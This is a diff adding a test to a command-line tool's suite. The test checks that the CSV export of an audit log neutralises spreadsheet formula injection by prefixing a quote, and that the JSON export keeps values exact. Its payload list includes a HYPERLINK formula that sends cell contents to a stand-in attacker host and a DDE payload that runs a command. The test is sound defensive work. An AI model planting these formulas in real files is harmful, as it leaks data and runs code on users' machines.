@@ -400,3 +400,36 @@ async def test_the_cli_refuses_a_bad_config_file_with_exit_2(tmp_path: Path) -> 
     )
     assert proc.returncode == 2
     assert str(bad) in proc.stderr.decode() and proc.stdout == b""
+
+
+# --- CSV injection (issue 19): a cell a spreadsheet would run as a formula is made text ---------
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?d="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+async def test_the_csv_export_makes_formula_cells_text_with_a_leading_quote(
+    world: World,
+) -> None:
+    for n, formula in enumerate(FORMULAS):
+        await world.service.store.audit_log.audit(
+            f"actor-{n}", formula, formula, tenant=formula, entra_id=formula
+        )
+    await world.service.store.audit_log.audit("plain", "Ann = Admin", "note", tenant="contoso")
+    text = await export_audit(str(world.config_path), "csv", env=world.env)
+    rows = {r["actor_id"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
+    for n, formula in enumerate(FORMULAS):
+        row = rows[f"actor-{n}"]
+        for name in ("actor_name", "action", "tenant", "entra_id"):
+            assert row[name] == "'" + formula, (name, row[name])
+    # text that only contains a formula character further in is left as it is
+    assert rows["plain"]["actor_name"] == "Ann = Admin" and rows["plain"]["tenant"] == "contoso"
+    # the JSON export is data, not a spreadsheet: values stay exact
+    exported = json.loads(await export_audit(str(world.config_path), "json", env=world.env))
+    assert {r["actor_name"] for r in exported} >= set(FORMULAS)
